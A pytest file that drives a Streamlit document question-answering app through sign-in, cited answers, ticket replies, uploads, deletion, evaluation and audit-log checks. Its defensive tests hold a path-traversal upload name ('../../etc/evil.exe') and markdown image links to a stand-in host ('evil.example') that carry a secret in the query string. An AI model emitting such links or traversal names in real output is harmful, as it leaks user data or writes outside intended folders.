"""The web app, page by page, run headless with Streamlit's AppTest on the real sample knowledge base.

A story in order: nobody gets in without signing in; a signed-in employee asks, follows up, opens sources and
rates the answer; a support agent drafts a ticket reply and approves it, and the next similar ticket finds it;
an admin uploads documents (bad ones are refused with a reason), asks about them in Japanese, deletes one,
runs the gold-question evaluation and reads the audit log; a non-admin cannot reach the admin pages."""

from __future__ import annotations

import json

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from app.audit import AuditLog
from app.settings import REPO_ROOT
from app.users import User, UserStore
from tests.app.conftest import open_app

MAIN = str(REPO_ROOT / "app" / "main.py")
ADMIN = User("aiko", ("everyone", "kura-admins"), admin=True)
AGENT = User("ben", ("everyone", "support"))
EXPENSES_JA = """# 経費精算規程

## 提出期限

経費は発生日から30日以内に、領収書の写真を添えて経費精算システムで申請してください。

## 出張

東京での宿泊費の上限は1泊18,000円です。
"""


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    """One app home for the module: the cached kura ingests the samples once, on first start."""
    home = tmp_path_factory.mktemp("app") / "home"
    users = UserStore(home / "users.json", ["kura-admins"])
    users.add("aiko", "aiko-password", ADMIN.groups)
    users.add("ben", "ben-password", AGENT.groups)
    st.cache_resource.clear()
    yield home
    st.cache_resource.clear()


@pytest.fixture(autouse=True)
def environment(home, monkeypatch):
    monkeypatch.setenv("KURA_HOME", str(home))
    monkeypatch.setenv("KURA_LLM_BACKEND", "extractive")
    monkeypatch.setenv("KURA_REVIEWER_GROUPS", "kura-admins,support")  # support reviews its own replies here


def audit(home, action):
    return AuditLog(home / "audit.jsonl").read(action=action)


def texts(at: AppTest) -> str:
    return "\n".join(t.value for t in at.text)


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


def test_nobody_gets_in_without_signing_in(home):
    at = open_app()
    assert not at.chat_input, "the Ask page must not render before sign-in"
    at.text_input(key="login_name").input("aiko")
    at.text_input(key="login_password").input("wrong password")
    at.button[0].click().run()
    assert any("Wrong user name or password" in e.value for e in at.error)
    assert audit(home, "login_failed")[0]["user"] == "aiko"
    at.text_input(key="login_password").input("aiko-password")
    at.button[0].click().run()
    assert not at.exception, at.exception
    assert at.chat_input and at.session_state["user"].admin
    assert audit(home, "login")[0]["user"] == "aiko"
    assert "aiko-password" not in (home / "users.json").read_text() + (home / "audit.jsonl").read_text()


def test_a_password_longer_than_bcrypt_allows_is_a_failed_sign_in_not_a_traceback(home):
    at = open_app()
    at.text_input(key="login_name").input("aiko")
    at.text_input(key="login_password").input("パスワード" * 10)  # 150 bytes
    at.button[0].click().run()
    assert not at.exception and any("Wrong user name or password" in e.value for e in at.error)
    assert audit(home, "login_failed")[0]["user"] == "aiko"


def test_an_employee_asks_and_sees_the_cited_passage(home):
    at = ask(open_app(AGENT), "How many weeks of parental leave do parents get?")
    assert "16 weeks of fully paid parental leave" in texts(at)
    assert "[1] leave-and-time-off.md" in texts(at)
    assert at.download_button, "each cited source offers its original file"
    assert "small local model" not in " ".join(i.value for i in at.info)  # extractive: no model text to distrust
    entry = audit(home, "ask")[0]
    assert entry["user"] == "ben" and entry["chunk_ids"] and not entry["abstained"]


def test_a_follow_up_is_searched_with_the_question_it_follows(home):
    at = ask(open_app(AGENT), "How many weeks of parental leave do parents get?")
    at = ask(at, "Can it be split?")
    assert any(
        "Searched for: How many weeks of parental leave do parents get? Can it be split?" in c.value for c in at.caption
    )
    assert "three blocks" in texts(at)


def test_a_conversation_survives_a_reload_and_has_its_own_url(home):
    at = ask(open_app(AGENT), "Which platforms does Kumo Sync support?")
    conversation, shown = at.query_params["c"], texts(at)
    again = AppTest.from_file(MAIN, default_timeout=180)
    again.session_state["user"] = AGENT
    again.query_params["c"] = conversation
    again.run()  # a reload, or the link opened tomorrow
    assert not again.exception, again.exception
    assert "Which platforms does Kumo Sync support?" in texts(again) and texts(again) == shown
    assert any(b.label == "Which platforms does Kumo Sync support?" for b in again.sidebar.button)
    stranger = AppTest.from_file(MAIN, default_timeout=180)
    stranger.session_state["user"] = ADMIN
    stranger.query_params["c"] = conversation
    stranger.run()
    assert "Which platforms does Kumo Sync support?" not in texts(stranger), "a link is no key to someone's chat"
    assert any("does not exist" in w.value for w in stranger.warning)


def test_a_question_outside_the_documents_says_not_found(home):
    at = ask(open_app(AGENT), "What is the airspeed velocity of an unladen swallow on Mars?")
    assert any("Not found in the documents you can access" in i.value for i in at.info)


def test_thumbs_down_with_a_comment_is_recorded(home):
    at = ask(open_app(AGENT), "What is the hotel limit per night in Tokyo?")
    assert not [box for box in at.text_input if box.key.startswith("comment-")], "no comment box before a rating"
    at.feedback[0].set_value(0).run()
    [comment] = [box for box in at.text_input if box.key.startswith("comment-")]
    comment.input("Wanted the Osaka limit").run()
    entries = audit(home, "feedback")
    assert entries[0]["rating"] == "down" and entries[0]["comment"] == "Wanted the Osaka limit"


def test_an_agent_drafts_approves_and_the_next_ticket_finds_the_approved_reply(home):
    at = open_app(AGENT, "draft")
    at.text_input(key="ticket_subject").input("Sync stuck")
    at.text_area(key="ticket_body").input(
        "Hello,\nmy Kumo Sync client has been stuck at 99% for two days.\nThanks, Mei"
    )
    at.text_input(key="ticket_customer").input("Mei")
    at.button(key="make_draft").click().run()
    assert not at.exception, at.exception
    reply = at.text_area(key="reply_text").value
    assert reply.startswith("Hello Mei,") and "sync-stuck.md" in texts(at)
    greeting, body = reply.split("\n", 1)
    edited = f"{greeting}\nPlease quote ticket code QX-4471 if you write again.\n{body}"
    at.text_area(key="reply_text").input(edited)
    at.button(key="approve").click().run()
    assert any("now knowledge for: everyone" in s.value for s in at.success)
    approval = audit(home, "approve")[0]
    assert approval["user"] == "ben" and approval["groups"] == ["everyone"] and approval["reviewer"]
    assert "+Please quote ticket code QX-4471" in approval["diff"], "the editor's changes are audited"

    again = open_app(AGENT, "draft")
    again.text_area(key="ticket_body").input("Kumo Sync is stuck at 99%, what should I do?")
    again.button(key="make_draft").click().run()
    assert "QX-4471" in again.text_area(key="reply_text").value
    assert "Source [1]: " + approval["file"].rsplit("/", 1)[-1] in texts(again)


def test_an_admin_uploads_documents_and_bad_ones_are_refused_with_a_reason(home):
    at = open_app(ADMIN, "library")
    at.file_uploader(key="upload_files").set_value(
        [
            ("経費精算規程.md", EXPENSES_JA.encode(), "text/markdown"),
            ("../../etc/evil.exe", b"MZ...", "application/octet-stream"),
            ("bomb.docx", b"not a zip at all", "application/octet-stream"),
            ("minutes.doc", b"\xd0\xcf\x11\xe0 old Word", "application/msword"),
        ]
    )
    at.text_input(key="upload_groups").input("everyone, finance")
    at.button[0].click().run()
    assert not at.exception, at.exception
    errors = " ".join(e.value for e in at.error)
    assert "evil.exe: this file type cannot be ingested" in errors and "bomb.docx: the file is damaged" in errors
    assert "minutes.doc: the .doc format cannot be read" in errors and "save it as .docx" in errors
    assert any("1 added" in s.value for s in at.success)
    stored = home.resolve() / "library" / "経費精算規程.md"
    assert stored.is_file() and not (home / "etc").exists()
    table = at.dataframe[0].value
    assert list(table[table["file"] == "uploads/経費精算規程.md"]["groups"]) == ["everyone, finance"]
    assert not any(str(home.resolve()) in path for path in table["file"]), "no server paths in the UI"
    from app.ui import get_kura  # the app's own instance (one per process)
    from retrieval import AccessScope

    assert get_kura().store.count(AccessScope((), user="aiko")) > 0, "the uploader owns it, whatever its groups"


def test_japanese_ui_and_a_japanese_question_find_the_japanese_document(home):
    at = open_app(User("hana", ("finance",), language="ja"))
    assert at.chat_input[0].placeholder == "文書について質問してください…"
    at = ask(at, "東京の宿泊費の上限はいくらですか")
    assert "経費精算規程.md" in texts(at) and "18,000円" in texts(at)


def test_deleting_a_document_removes_it_from_answers(home):
    at = open_app(ADMIN, "library")
    stored = str(home.resolve() / "library" / "経費精算規程.md")
    assert at.selectbox(key="delete_path").value is None and at.button(key="delete").disabled, "nothing preselected"
    at.selectbox(key="delete_path").select("uploads/経費精算規程.md").run()
    assert at.button(key="delete").disabled, "deleting needs a confirmation"
    at.checkbox(key="delete_sure_uploads/経費精算規程.md").check().run()
    at.button(key="delete").click().run()
    assert not at.exception, at.exception
    assert any("Deleted 経費精算規程.md" in s.value for s in at.success)
    assert audit(home, "delete")[0]["file"] == stored
    at = ask(open_app(User("hana", ("finance",))), "東京の宿泊費の上限はいくらですか")
    assert "経費精算規程" not in texts(at)


def test_admin_pages_are_not_reachable_for_other_users(home):
    """For a non-admin the admin pages are not even registered: there is no URL to open them by."""
    at = open_app(AGENT)
    for page in ("library", "evaluate", "audit"):
        with pytest.raises(ValueError, match="Could not find a navigation page"):
            at.switch_page(f"views/{page}.py")


def test_status_page_reports_each_component(home):
    """Everyone sees whether each part answers; only an admin sees where each part is and the settings."""
    at = open_app(AGENT, "status")
    table = at.dataframe[0].value
    assert set(table["Component"]) == {"Vector store (Qdrant)", "Embedding model", "Language model"}
    assert set(table["State"]) == {"answers"}
    assert "Detail" not in table.columns and not at.json, "no paths, addresses or settings for a non-admin"
    admin = open_app(ADMIN, "status")
    assert "Detail" in admin.dataframe[0].value.columns and admin.json
    uses = admin.dataframe[1].value
    assert list(uses["Use"]) == ["Answers to questions", "Ticket reply drafts"], "which model each use goes to"


def test_evaluate_page_runs_gold_questions_and_compares_with_the_last_run(home):
    gold = "\n".join(
        json.dumps(row)
        for row in [
            {
                "question": "How many weeks of parental leave do parents get?",
                "expected_source": "leave-and-time-off.md",
                "facts": ["16 weeks"],
            },
            {
                "question": "What is the hotel limit per night in Tokyo?",
                "expected_source": "expenses-and-travel.md",
                "facts": ["18,000 yen"],
            },
            {"question": "Who won the 1998 football world cup?", "expected_source": None},
        ]
    ).encode()
    for _ in range(2):
        at = open_app(ADMIN, "evaluate")
        at.file_uploader(key="gold_file").set_value(("gold.jsonl", gold, "application/json")).run()
        at.button(key="run_eval").click().run()
        assert not at.exception, at.exception
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["hit@5"] == "1.0" and metrics["fact_recall"] == "1.0"
    assert any("Change since the last run" in c.value for c in at.caption)


def test_evaluate_page_shows_the_latest_base_and_adapter_comparison(home):
    rows = [
        {"model": "gpt-oss-20b", "tickets": 30, "recall": 0.41, "supported": 0.9, "words": 80.4, "failed": 0},
        {"model": "kura-support", "tickets": 30, "recall": 0.58, "supported": 0.92, "words": 64.0, "failed": 0},
    ]
    (home / "training").mkdir(parents=True, exist_ok=True)
    (home / "training" / "comparison.json").write_text(json.dumps({"dataset": "finetune-data", "rows": rows}))
    at = open_app(ADMIN, "evaluate")
    [table] = [d.value for d in at.dataframe if "Recall of the approved reply" in d.value.columns]
    assert list(table["Model"]) == ["gpt-oss-20b", "kura-support"] and list(table["Recall of the approved reply"]) == [
        0.41,
        0.58,
    ]


def test_the_audit_log_page_shows_who_did_what(home):
    at = open_app(ADMIN, "audit")
    table = at.dataframe[0].value
    done_in_the_app = {"ask", "feedback", "draft", "approve", "upload", "upload_rejected", "delete", "eval_qa"}
    assert done_in_the_app <= set(table["Action"])
    assert list(table.columns) == ["When (UTC)", "User", "Through", "Action", "About", "Details"], "no raw JSON"
    asked = table[table["Action"] == "ask"].iloc[-1]
    assert asked["About"] and "chunk_ids" in asked["Details"]
    at.selectbox(key="audit_user").select("ben").run()
    assert set(at.dataframe[0].value["User"]) == {"ben"}
    entries = AuditLog(home / "audit.jsonl").read(limit=10_000)
    assert {e["via"] for e in entries if e["user"] in ("aiko", "ben")} == {"app"}, "every use case says where from"
    assert entries[0]["action"] == "audit_read" and entries[0]["user"] == "aiko", "reading the log is itself logged"


def test_without_a_model_the_ask_page_still_shows_the_passages(tmp_path, monkeypatch):
    monkeypatch.setenv("KURA_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("KURA_SINGLE_USER", "1")
    monkeypatch.setenv("KURA_LLM_BACKEND", "local")
    monkeypatch.setenv("KURA_LLM_MODEL_PATH", str(tmp_path / "missing.gguf"))
    monkeypatch.setenv("KURA_RATE_LIMIT_PER_MINUTE", "1")
    st.cache_resource.clear()
    try:
        at = open_app()
        assert at.session_state["user"].name == "local" and at.session_state["user"].admin, "single-user mode"
        at = ask(at, "What is the hotel limit per night in Tokyo?")
        assert any("No model file" in w.value for w in at.warning)
        assert "18,000 yen" in texts(at)
        at = ask(at, "And in Osaka?")
        assert any("Request limit reached (1 per minute)" in w.value for w in at.warning)
        assert AuditLog(tmp_path / "home" / "audit.jsonl").read(action="rate_limited")
    finally:
        st.cache_resource.clear()


def test_with_an_identity_provider_configured_sign_in_goes_through_it(home):
    at = AppTest.from_file(MAIN, default_timeout=180)
    at.secrets["auth"] = {
        "redirect_uri": "http://localhost:8501/oauth2callback",
        "cookie_secret": "x" * 32,
        "client_id": "kura",
        "client_secret": "s3cret",
        "server_metadata_url": "https://idp.example/.well-known/openid-configuration",
    }
    at.run()
    assert not at.exception, at.exception
    assert [b.label for b in at.button] == ["Sign in with your company account"]
    assert not at.text_input and not at.chat_input, "no local password form and no page before the IdP says who"


def test_no_document_text_or_model_output_can_reach_html():
    """The app renders document text and model output with st.text, st.code and st.caption, and as Markdown only
    through app/render.py: a model's Markdown without links or images, document text escaped. Raw HTML is never
    switched on."""
    import ast

    for path in (REPO_ROOT / "app").rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        assert "unsafe_allow_html" not in source and "st.html" not in source, path
        assert "components.html" not in source, path
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "markdown":
                [argument] = node.args
                assert isinstance(argument, ast.Call) and getattr(argument.func, "id", "") in (
                    "safe_markdown", "in_context", "escaped"
                ), f"{path}:{node.lineno}: st.markdown of text not made safe by app/render.py"  # fmt: skip


def test_markdown_from_a_model_loses_its_links_and_images_and_document_text_reads_as_written():
    from app.render import in_context, safe_markdown

    said = safe_markdown("## Paid Time Off\n*three* days ![x](http://evil.example/?q=secret) [policy](http://a.b) [2]")
    assert said == "## Paid Time Off\n*three* days x policy [2]"
    assert safe_markdown("[1]: http://evil.example/pixel\n![tracker][1]") == "\ntracker"
    shown = in_context("# Payroll\nSalaries are paid on\nthe 25th. *Not* before.", "Salaries are paid on the 25th.")
    assert shown == "**Salaries are paid on the 25th\\.** \\*Not\\* before\\.", "found across a line break"
